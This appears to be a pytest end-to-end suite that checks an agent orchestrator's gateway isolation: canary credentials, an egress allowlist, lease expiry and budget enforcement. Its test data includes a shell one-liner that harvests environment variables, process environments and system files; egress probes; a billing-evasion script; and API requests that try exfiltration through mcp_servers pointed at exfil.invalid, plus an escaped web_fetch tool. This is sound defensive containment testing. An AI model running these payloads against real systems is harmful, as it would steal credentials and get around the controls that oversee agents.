"""Workers hold no credential and their only way out is the gateway: hostile ``agent: command``
tasks on the real engine, through the manager's own commands, beside honest ones.

The manager's environment carries canary credentials; the gateway container must hold them and
no worker may find them, plain or encoded. The "test internet" is a container of the test's own
on a Docker network of the test's own. No packet leaves this machine: the real upstream is
pointed at a closed port on the loopback.
"""

from __future__ import annotations

import base64
import json
import secrets
import socket
import time
from collections.abc import Iterator
from pathlib import Path

import httpx
import pytest

from manager.backends.docker.services import gateway_container_name
from orchestration_protocol import Layout, try_claim_attempt
from orchestration_protocol.gateway import api_socket, short_socket_path
from orchestration_protocol.mirrors import mirror_dir
from tests.conftest import docker_scope, docker_worker
from tests.gitrepo import show
from tests.manager.test_manager_docker import (
    WORKER_IMAGE,
    engine,
    env,
    orchestrator,
    result_of,
    wait_until,
)

pytestmark = [pytest.mark.docker, pytest.mark.e2e]
__all__ = ["engine", "env"]

CANARIES = {
    "ANTHROPIC_API_KEY": "sk-ant-canary-api-key-7f3a9c2e5b1d",
    "CLAUDE_CODE_OAUTH_TOKEN": "sk-ant-oat-canary-oauth-4e8b2a6c",
    "GIT_TOKEN": "ghp_canary_git_token_9d1f3b7a5c",
}
LOOT = (
    "{ env; for f in /proc/[0-9]*/environ /proc/[0-9]*/cmdline; do cat $f; echo; done; "
    "ls -laR /run /home /tmp /runtime /orchestration 2>&1 | head -3000; "
    "for d in /run /home /tmp /etc /root /runtime /orchestration /var/run /proc/1/root/run; do "
    "find $d -xdev -type f -size -200k 2>/dev/null | head -2000 | while read f; do cat \"$f\"; done; "
    "done; } 2>/dev/null | base64 -w0 > loot.b64; echo looted"
)


@pytest.fixture
def real_env(env: dict[str, str]) -> dict[str, str]:
    """Not a simulation: canary credentials in the manager's environment, and an upstream that
    is a closed port on the loopback (nothing may leave this machine)."""
    return {**env, **CANARIES, "ANTHROPIC_BASE_URL": "http://127.0.0.1:9"}


def mirror_file(layout: Layout, remote: Path, task_id: str, path: str) -> str:
    return show(mirror_dir(layout, str(remote)), f"orchestrator/{task_id}", path)


def test_no_worker_finds_a_credential_anywhere_and_an_honest_task_still_succeeds(
    real_env: dict[str, str], layout: Layout, tmp_path: Path, engine
) -> None:
    done = orchestrator(real_env, "run", "--agent", "command", "-n", "2", "--json",
                        LOOT, "echo honest > honest.txt")
    assert done.returncode == 0, done.stdout + done.stderr
    assert result_of(layout, "task-002").status == "success"
    remote = tmp_path / "remote.git"
    assert mirror_file(layout, remote, "task-002", "honest.txt") == "honest\n"
    loot = base64.b64decode(mirror_file(layout, remote, "task-001", "loot.b64"))
    assert len(loot) > 100_000, "the hostile task found too little to be a fair try"
    assert b"ORCHESTRATOR_TASK_ID=task-001" in loot and b"orc-" in loot  # its own token: fine
    worker = engine.containers.get(docker_worker(layout.root, "task-001"))
    inspected = json.dumps(worker.attrs).encode()
    on_volume = b"".join(
        path.read_bytes() for path in layout.root.rglob("*")
        if path.is_file() and "git" not in path.relative_to(layout.root).parts[:1]
    )
    for value in CANARIES.values():
        for form in (value.encode(), base64.b64encode(value.encode()), value.encode().hex().encode()):
            assert form not in loot and form not in inspected and form not in on_volume
    gateway = engine.containers.get(gateway_container_name(docker_scope(layout.root)))
    held = gateway.exec_run(["cat", "/run/orchestrator-secrets/ANTHROPIC_API_KEY"]).output
    assert held.decode() == CANARIES["ANTHROPIC_API_KEY"], "the canary never reached the gateway"
    assert b"GIT_TOKEN" not in gateway.exec_run(["ls", "/run/orchestrator-secrets"]).output


@pytest.fixture
def test_internet(engine) -> Iterator[str]:
    """A web site on a Docker network of the test's own; yields its name."""
    suffix = secrets.token_hex(3)
    network = engine.networks.create(f"orch-test-internet-{suffix}", driver="bridge")
    name = f"site-{suffix}"
    site = engine.containers.run(
        WORKER_IMAGE, ["-m", "http.server", "8000", "--directory", "/opt"],
        entrypoint=["python3"], name=name, network=network.name, user="1000:1000",
        cap_drop=["ALL"], detach=True, labels={"orchestrator.test": "site"},
    )
    yield name
    site.remove(force=True)
    network.reload()
    for container in network.containers:  # the gateway joined it
        network.disconnect(container, force=True)
    network.remove()


EGRESS_PROBE = """python3 - <<'EOF' > egress.txt
import http.client, os, socket, urllib.request
def attempt(what, call):
    try:
        print(what, "reached", call())
    except Exception as error:
        print(what, "refused", type(error).__name__, getattr(error, "code", ""))
attempt("allowed-get", lambda: urllib.request.urlopen("http://SITE:8000/", timeout=10).status)
attempt("other-name", lambda: urllib.request.urlopen("http://other-SITE:8000/", timeout=10).status)
def tunnel():
    proxy = os.environ["HTTPS_PROXY"].rsplit("@", 1)[1].split(":")
    user = os.environ["HTTPS_PROXY"].split("//")[1].rsplit("@", 1)[0]
    import base64
    conn = http.client.HTTPConnection(proxy[0], int(proxy[1]), timeout=10)
    auth = base64.b64encode(user.encode()).decode()
    conn.set_tunnel("SITE", 8000, headers={"Proxy-Authorization": "Basic " + auth})
    conn.request("GET", "/")
    return conn.getresponse().status
attempt("allowed-connect", tunnel)
attempt("direct", lambda: socket.create_connection(("SITE", 8000), timeout=3))
attempt("host-port", lambda: socket.create_connection(("172.17.0.1", HOSTPORT), timeout=3))
EOF
cat egress.txt"""


def test_the_only_way_out_is_the_gateway_and_its_allowlist(
    env: dict[str, str], layout: Layout, tmp_path: Path, test_internet: str
) -> None:
    profiles = Path(env["ORCHESTRATOR_PROFILES"])
    network = f"orch-test-internet-{test_internet.removeprefix('site-')}"
    profiles.write_text(
        profiles.read_text()
        + f"web:\n  image: {WORKER_IMAGE}\n  memory: 512m\n  network: {network}\n"
        f"  egress_allow: [{test_internet}]\n"
    )
    listener = socket.create_server(("0.0.0.0", 0))  # the host's own port, which must stay shut
    try:
        probe = EGRESS_PROBE.replace("SITE", test_internet).replace(
            "HOSTPORT", str(listener.getsockname()[1])
        )
        done = orchestrator(env, "run", "--agent", "command", "--profile", "web", "--json",
                            probe, timeout=240)
    finally:
        listener.close()
    assert done.returncode == 0, done.stdout + done.stderr
    lines = dict(
        line.split(" ", 1) for line in
        mirror_file(layout, tmp_path / "remote.git", "task-001", "egress.txt").splitlines()
    )
    assert lines["allowed-get"] == "reached 200" and lines["allowed-connect"] == "reached 200"
    assert lines["other-name"].startswith("refused HTTPError 403")
    for way in ("direct", "host-port"):
        assert lines[way].startswith("refused"), lines
    shown = orchestrator(env, "egress", "task-001", "--json")
    assert shown.returncode == 0, shown.stderr
    entries = json.loads(shown.stdout)
    allowed = {(e["host"], e["allowed"]) for e in entries}
    assert (test_internet, True) in allowed and (f"other-{test_internet}", False) in allowed
    assert len(entries) == 3


def api_request(layout: Layout, token: str) -> httpx.Response:
    short, fd = short_socket_path(api_socket(layout))
    try:
        transport = httpx.HTTPTransport(uds=short)
        with httpx.Client(transport=transport, base_url="http://gateway", timeout=10) as client:
            return client.post(
                "/v1/messages/count_tokens",
                json={"model": "claude-opus-5-5", "messages": [{"role": "user", "content": "hi"}]},
                headers={"x-api-key": token, "anthropic-version": "2023-06-01"},
            )
    finally:
        import os

        os.close(fd)


def test_a_zombie_cannot_spend_once_its_lease_is_gone(
    env: dict[str, str], layout: Layout, engine
) -> None:
    env = {**env, "ORCHESTRATOR_LEASE_S": "3", "ORCHESTRATOR_HEARTBEAT_S": "1"}
    created = orchestrator(env, "task", "create", "--id", "zombie", "--agent", "command",
                           'echo "$ANTHROPIC_API_KEY" > /tmp/token; sleep 300')
    assert created.returncode == 0, created.stderr
    spawned = orchestrator(env, "spawn", "--simulate", "default", "zombie")
    assert spawned.returncode == 0, spawned.stderr
    worker = engine.containers.get(docker_worker(layout.root, "zombie"))
    try:
        def stolen() -> str:
            return worker.exec_run(["cat", "/tmp/token"]).output.decode().strip()

        wait_until(lambda: stolen().startswith("orc-"), what="the agent's token")
        token = stolen()
        assert api_request(layout, token).status_code == 200  # while the lease holds
        worker.pause()
        time.sleep(5)  # past the 3 s lease
        expired = api_request(layout, token)
        assert expired.status_code == 403 and "let its lease expire" in expired.text
        assert try_claim_attempt(layout, "zombie", 2, worker_id="successor", lease_s=60)
        replaced = api_request(layout, token)
        assert replaced.status_code == 403 and "replaced by attempt 2" in replaced.text
        worker.unpause()
        wait_until(lambda: worker.reload() or worker.status == "exited", timeout=30,
                   what="the zombie to stop")
        assert "successor owns the result" in layout.log_file("zombie").read_text()
        assert api_request(layout, token).status_code in (401, 403)
    finally:
        worker.remove(force=True)
        orchestrator(env, "cleanup", "--simulation")


def test_a_task_over_its_budget_is_stopped_at_the_gateway(
    env: dict[str, str], layout: Layout
) -> None:
    done = orchestrator(env, "run", "--simulate", "--max-budget", "0.0001", "--json",
                        "Add dark mode support")
    try:
        assert done.returncode == 1, done.stdout + done.stderr
        result = result_of(layout, "task-001")
        assert result.status == "failed"
        assert result.error and result.error.startswith("budget exceeded: ")
        assert "task task-001 has spent $" in result.error and "of its $0.0001 budget" in result.error
        ledger = [json.loads(line) for line in
                  (layout.root / "ledger" / "task-001.jsonl").read_text().splitlines()]
        assert ledger[0]["outcome"] == "refused" and "could cost up to $" in ledger[0]["error"]
        assert sum(entry["cost_usd"] for entry in ledger) == 0  # nothing went upstream
    finally:
        orchestrator(env, "cleanup", "--simulation")


HOSTILE_SPENDER = r"""cat > /tmp/spend.py <<'EOF'
import json, os, threading, urllib.error, urllib.request
base, key = os.environ["ANTHROPIC_BASE_URL"], os.environ["ANTHROPIC_API_KEY"]
body = json.dumps({"model": "claude-opus-5-5", "max_tokens": 20000, "stream": True,
                   "tools": [{"name": "Bash", "description": "r", "input_schema": {"type": "object"}}],
                   "messages": [{"role": "user", "content": "expensive: an essay"}]}).encode()
codes = []
def one():
    request = urllib.request.Request(base + "/v1/messages", body, {
        "x-api-key": key, "content-type": "application/json", "anthropic-version": "2023-06-01"})
    try:
        with urllib.request.urlopen(request, timeout=60) as reply:
            for line in reply:
                if b"content_block_stop" in line:
                    break  # hang up before message_delta: no usage event
            codes.append(reply.status)
    except urllib.error.HTTPError as error:
        codes.append(error.code)
threads = [threading.Thread(target=one) for _ in range(12)]
for thread in threads:
    thread.start()
for thread in threads:
    thread.join()
print("codes", sorted(codes))
EOF
python3 /tmp/spend.py"""


def test_a_hostile_task_racing_and_hanging_up_is_charged_and_fails(
    env: dict[str, str], layout: Layout
) -> None:
    """Issue 16, attacks 1 and 2 through the worker's relay: 12 concurrent $0.50 streams against
    a $0.10 budget, each left before its usage event. Before: all went upstream, the ledger
    said $0.0016 and the result said success."""
    done = orchestrator(env, "run", "--simulate", "--agent", "command", "--max-budget", "0.10",
                        "--json", HOSTILE_SPENDER)
    try:
        result = result_of(layout, "task-001")
        ledger = [json.loads(line) for line in
                  (layout.root / "ledger" / "task-001.jsonl").read_text().splitlines()]
        sent = [entry for entry in ledger if entry["outcome"] not in ("refused", "over_budget")]
        assert result.status == "failed", (done.stdout, done.stderr, ledger)
        assert result.error and result.error.startswith("budget exceeded: ")
        assert len(sent) == 1 and 0.09 < sum(entry["cost_usd"] for entry in ledger) <= 0.10
        assert "codes [200, 403, 403, 403" in layout.log_file("task-001").read_text()
    finally:
        orchestrator(env, "cleanup", "--simulation")



HOSTILE_API_EGRESS = r"""cat > /tmp/egress.py <<'EOF'
import json, os, urllib.error, urllib.request
base, key = os.environ["ANTHROPIC_BASE_URL"], os.environ["ANTHROPIC_API_KEY"]
client = [{"name": "Bash", "description": "r", "input_schema": {"type": "object"}}]
def send(raw, headers=None):
    request = urllib.request.Request(base + "/v1/messages", raw, {
        "x-api-key": key, "content-type": "application/json", "anthropic-version": "2023-06-01",
        **(headers or {})})
    try:
        with urllib.request.urlopen(request, timeout=60) as reply:
            return reply.status
    except urllib.error.HTTPError as error:
        return error.code
def body(**extra):
    return {"model": "claude-opus-5-5", "max_tokens": 64, "tools": client,
            "messages": [{"role": "user", "content": "hello"}], **extra}
attempts = {
    "mcp": json.dumps(body(mcp_servers=[{"type": "url", "url": "http://exfil.invalid/sse",
                                        "name": "x"}])).encode(),
    "web_fetch": json.dumps(body(tools=[*client, {"type": "web_fetch_20250910",
                                                  "name": "web_fetch"}])).encode(),
    # the same tool type written with a JSON escape: the gateway reads JSON, not bytes
    "web_fetch escaped": json.dumps(body(tools=[*client, {"type": "TYPE", "name": "f"}]))
        .replace("TYPE", "web\\u005ffetch_20250910").encode(),
    "container": json.dumps(body(container="exfil")).encode(),
}
codes = {name: send(raw) for name, raw in attempts.items()}
codes["honest"] = send(json.dumps(body()).encode(),
                       {"anthropic-beta": "mcp-client-2025-04-04", "x-custom-exfil": "loot"})
print("CODES", json.dumps(codes, sort_keys=True))
EOF
python3 /tmp/egress.py"""


def test_a_hostile_task_asking_the_model_api_to_fetch_for_it_is_refused_and_logged(
    env: dict[str, str], layout: Layout
) -> None:
    """Issue 16, attack 4 through the worker's relay: ``mcp_servers``, a server-side
    ``web_fetch`` tool (plain and JSON-escaped) and ``container`` are refused with a 400 and
    logged in the task's egress log; a plain request beside them, with a beta and a header
    the gateway strips, is answered."""
    orchestrator(env, "run", "--simulate", "--agent", "command", "--json", HOSTILE_API_EGRESS)
    try:
        log = layout.log_file("task-001").read_text()
        codes = json.loads(log.split("CODES ", 1)[1].splitlines()[0])
        assert codes == {"mcp": 400, "web_fetch": 400, "web_fetch escaped": 400, "container": 400,
                         "honest": 200}, log[-2000:]
        entries = [json.loads(line) for line in
                   (layout.root / "egress" / "task-001.jsonl").read_text().splitlines()]
        refused = [entry["host"] for entry in entries if entry["method"] == "MODEL-API"]
        assert not any(entry["allowed"] for entry in entries if entry["method"] == "MODEL-API")
        assert any("mcp_servers" in host for host in refused), refused
        assert sum("web_fetch" in host for host in refused) == 2, refused
        assert any("container" in host for host in refused), refused
    finally:
        orchestrator(env, "cleanup", "--simulation")
